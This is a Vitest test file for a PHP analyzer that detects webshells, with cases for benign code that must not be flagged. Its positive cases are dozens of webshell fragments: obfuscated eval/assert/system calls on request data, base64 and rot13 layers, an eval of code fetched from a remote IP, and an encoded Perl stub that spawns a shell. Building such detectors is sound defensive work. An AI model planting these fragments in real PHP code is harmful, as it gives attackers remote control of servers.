import { describe, expect, it } from 'vitest';
import { PhpAnalyzer } from '../../src/php/analyze.js';

const analyzer = new PhpAnalyzer();
const ids = (code: string) => analyzer.analyze(`<?php ${code}`).signals.map((signal) => signal.id);

describe('what runs request data', () => {
  it.each([
    ['eval', 'eval($_POST["x"]);', 'request-to-code'],
    ['assert by a built name', '$c = "ass" . "ert"; $c($_POST[4]);', 'request-to-code'],
    ['assert in braces', `$c = "ass" . "ert"; \${c}($_POST[4]);`, 'request-to-code'],
    [
      'a name in parentheses',
      '(substr($m = "xxsystem", 2, 3) . substr($m, 5))($_GET["a"]);',
      'request-to-command',
    ],
    ['a masked name', '$f = "!3\\"%25" ^ "@@QQGA"; $f($_POST[1]);', 'hidden-call-with-request'],
    [
      'an inverted name',
      `$f = ~"${'system'.replace(/./g, (c) => `\\x${(~c.charCodeAt(0) & 255).toString(16)}`)}"; $f($_GET[0]);`,
      'request-to-command',
    ],
    ['a callback', 'array_map("assert", [$_POST["x"]]);', 'callback-runs-request'],
    ['a callback of the request', 'array_map($_GET["f"], [$_GET["x"]]);', 'request-callback-with-request'],
    ['a comparer', 'usort($a, $_GET["f"]);', 'request-comparer'],
    ['call_user_func', 'call_user_func("system", $_GET["x"]);', 'request-to-command'],
    ['call_user_func_array', 'call_user_func_array("sys" . "tem", [$_GET["x"]]);', 'request-to-command'],
    ['preg_replace with /e', 'preg_replace("/.*/e", $_POST["x"], "");', 'pattern-runs-request'],
    ['preg_filter with /e', 'preg_filter("|.*|e", $_REQUEST["x"], "");', 'pattern-runs-request'],
    [
      'a match that is code',
      'preg_replace("/(.*)/e", "eval(\'\\\\1\')", $_POST["x"]);',
      'pattern-runs-match',
    ],
    ['a pattern of the request', 'preg_replace($_GET["a"], $_GET["b"], $_GET["c"]);', 'request-pattern'],
    ['create_function', '$f = create_function("", $_POST["x"]); $f();', 'request-to-code'],
    ['include of the request', 'include $_GET["p"];', 'request-include'],
    ['include of the body', 'include "php://input";', 'url-include'],
    [
      'include of data',
      `include "data:;base64,${Buffer.from('<?php eval($_POST[1]);').toString('base64')}";`,
      'request-to-code',
    ],
    ['include of an image', 'include "logo.jpg";', 'static-include'],
    ['backticks', 'echo `$_GET[c]`;', 'request-to-command'],
    [
      'a decoded layer',
      `eval(base64_decode("${Buffer.from('system($_GET["c"]);').toString('base64')}"));`,
      'request-to-command',
    ],
    [
      'two layers',
      `eval(base64_decode("${Buffer.from(`eval(str_rot13('flfgrz($_TRG[0]);'));`).toString('base64')}"));`,
      'request-to-command',
    ],
    [
      'a function that passes it on',
      'function run($x) { return eval($x); } run($_POST["x"]);',
      'request-to-code',
    ],
    [
      'a method that passes it on',
      'class A { function go($x) { system($x); } } $a = new A; $a->go($_GET["x"]);',
      'request-to-command',
    ],
    [
      'a property that holds it',
      'class A { public $c; function __construct() { $this->c = $_POST["x"]; } function go() { eval($this->c); } } (new A)->go();',
      'request-to-code',
    ],
    [
      'a destructor',
      'class A { public $c; function __destruct() { assert($this->c); } } $a = new A; $a->c = $_POST["x"];',
      'request-to-code',
    ],
    ['a reflected function', '(new ReflectionFunction("system"))->invoke($_GET["x"]);', 'request-to-command'],
    [
      'a reflected class',
      'class T { function __construct($f, $x) { $f($x); } } (new ReflectionClass("T"))->newInstance($_GET["f"], $_GET["x"]);',
      'request-call-with-request',
    ],
    [
      'the session',
      'if (isset($_SESSION["p"])) eval($_SESSION["p"]); else $_SESSION["p"] = $_POST["p"];',
      'request-to-code',
    ],
    ['extracted variables', 'extract($_POST); eval($code);', 'request-to-code'],
    ['named variables', 'foreach ($_POST as $k => $v) $$k = $v; eval($code);', 'request-to-code'],
    [
      'a parsed query',
      'parse_str(file_get_contents("php://input"), $a); system($a["c"]);',
      'request-to-command',
    ],
    ['headers', 'eval($_SERVER["HTTP_X"]);', 'request-to-code'],
    ['all headers', '$h = getallheaders(); assert($h["X"]);', 'request-to-code'],
    ['a hidden superglobal', `$p = "_P" . "OST"; eval(\${$p}["x"]);`, 'request-to-code'],
    [
      'a filter',
      'filter_var($_REQUEST["x"], FILTER_CALLBACK, ["options" => "assert"]);',
      'callback-runs-request',
    ],
    ['a container', '(new ArrayObject([$_REQUEST["x"] => 1]))->uksort("assert");', 'callback-runs-request'],
    ['output', 'ob_start("system"); echo $_GET["c"]; ob_end_flush();', 'callback-runs-anything'],
    ['a closure nobody calls', 'hook(function () { eval($_POST["x"]); });', 'request-to-code'],
    [
      'a comment',
      '/** eval($_POST["c"]); */ class T {} $d = (new ReflectionClass("T"))->getDocComment(); eval(substr($d, 4, 17));',
      'request-to-code',
    ],
    [
      'an object of the visitor',
      'class A { public $d = "x"; function __destruct() { eval($this->d); } } unserialize($_GET["o"]);',
      'request-to-code',
    ],
    [
      'a file that was written',
      'file_put_contents("README", $_GET["x"]); require "README";',
      'request-to-code',
    ],
    [
      'words without quotes',
      '$f = ("1!1%24" ^ RRRRRR) . ""; $g = a . ssert; $g($_POST[1]);',
      'request-to-code',
    ],
    [
      'a table',
      '$t = ["1" => "e", "2" => "v"]; $s = "12al($" . "_POST[0]);"; $o = ""; foreach (str_split($s) as $c) $o .= isset($t[$c]) ? $t[$c] : $c; eval($o);',
      'request-to-code',
    ],
    ['a pipe', '$_GET["c"] |> system(...);', 'request-to-command'],
    ['an anonymous class', 'new class { function __construct() { eval($_POST["x"]); } };', 'request-to-code'],
    ['PHP of the style sheet', '$p = new XSLTProcessor; $p->registerPHPFunctions();', 'stylesheet-functions'],
    ['code from elsewhere', 'eval(file_get_contents("http://203.0.113.66/x"));', 'remote-to-code'],
    ['a written script', 'file_put_contents("x.php", $_POST["x"]);', 'request-writes-script'],
    ['a written file', 'file_put_contents($_POST["n"], $_POST["x"]);', 'request-writes-file'],
    ['a written shell', 'file_put_contents("a", \'<?php eval($_POST[1]);\');', 'writes-shell'],
    ['an opened script', '$h = fopen("x.php", "w"); fwrite($h, $_POST["x"]);', 'request-writes-script'],
    [
      'an upload of any name',
      'move_uploaded_file($_FILES["f"]["tmp_name"], $_FILES["f"]["name"]);',
      'upload-here',
    ],
    ['an uploaded script', 'copy($_FILES["f"]["tmp_name"], "x.php");', 'upload-as-script'],
    ['a preloaded library', 'putenv("LD_PRELOAD=/tmp/x.so"); mail("a", "b", "c");', 'preloads-library'],
    [
      'output that goes through a shell',
      '$f = "system"; ob_start($f); echo "id"; ob_end_flush();',
      'callback-runs-anything',
    ],
    ['a masked name, whatever it names', '$f = "!3?" ^ "@@Q"; echo $f("x");', 'masked-name'],
    ['a mode that the request sets', 'chmod($_GET["path"], 0777);', 'request-changes-mode'],
    [
      'a program that lies encoded in the script',
      `$p = base64_decode("${Buffer.from('#!/usr/bin/perl\nuse IO::Socket;\nexec("/bin/sh -i");').toString('base64')}"); $h = fopen("/tmp/bc", "w"); fwrite($h, $p);`,
      'decoded-program',
    ],
    [
      'headers that a function of its own hands out where the server has none',
      'if (!function_exists("getallheaders")) { function getallheaders() { return []; } } $h = getallheaders(); fsockopen($h["X-Target"], 80);',
      'request-socket',
    ],
    [
      'a database by the log-in and the query of the request',
      'mysql_connect($_POST["h"], $_POST["u"], $_POST["p"]); mysql_query($_POST["q"]);',
      'request-query',
    ],
  ])('%s', (_, code, id) => {
    expect(ids(code)).toContain(id);
  });

  it('names the line in the file, also for code in layers', () => {
    const code = `<?php\n\n$x = 1;\neval(base64_decode("${Buffer.from('\n\n\n\n\nsystem($_GET["c"]);').toString('base64')}"));`;
    const signal = analyzer.analyze(code).signals.find(({ id }) => id === 'request-to-command');
    expect(code.slice(0, signal?.offset).split('\n')).toHaveLength(4);
  });
});

describe('what ordinary code does', () => {
  it.each([
    ['templates', 'include __DIR__ . "/templates/" . basename($name) . ".php";'],
    ['checked commands', 'exec("convert " . escapeshellarg($_FILES["f"]["tmp_name"]));'],
    [
      'callbacks of its own',
      'usort($rows, function ($a, $b) { return $a["n"] - $b["n"]; }); array_map("trim", $_POST);',
    ],
    [
      'hooks',
      'function do_action($tag) { foreach ($GLOBALS["hooks"][$tag] as $f) call_user_func_array($f, func_get_args()); }',
    ],
    ['factories', 'class F { function make($type) { $class = "Model_" . $type; return new $class; } }'],
    [
      'uploads with a name of its own',
      'move_uploaded_file($_FILES["f"]["tmp_name"], "/srv/media/" . md5($x) . ".jpg");',
    ],
    ['configuration', '$config = unserialize(file_get_contents("/srv/app/cache/config.ser"));'],
    [
      'routing',
      '$action = $_GET["action"] ?? "index"; if (in_array($action, ["index", "show"])) { $controller->$action(); }',
    ],
    ['paths that another file makes of the request', 'require(template_dir("/" . $_GET["page"]));'],
    ['tools for the terminal', 'passthru("git log " . $argv[1]);'],
    ['modes of folders of its own', 'exec("chmod 777 cache");'],
    [
      'templates of commands',
      'exec(strtr("java -jar c.jar --js {from} --out {to}", ["{from}" => $a, "{to}" => $b]));',
    ],
    [
      'output through a function of its own',
      'function squeeze($t) { return trim($t); } ob_start("squeeze");',
    ],
    ['own names through a table', '$f = strtr("do-it", "-", "_"); function do_it() { return 1; } $f();'],
    ['encoded pictures', 'file_put_contents("/srv/x.gif", base64_decode("R0lGODlhAQABAAAAACw="));'],
  ])('%s: nothing that counts', (_, code) => {
    const heavy = analyzer
      .analyze(`<?php ${code}`)
      .signals.filter((signal) => signal.weight >= 40 && signal.id !== 'request-method');
    expect(heavy).toEqual([]);
  });
});
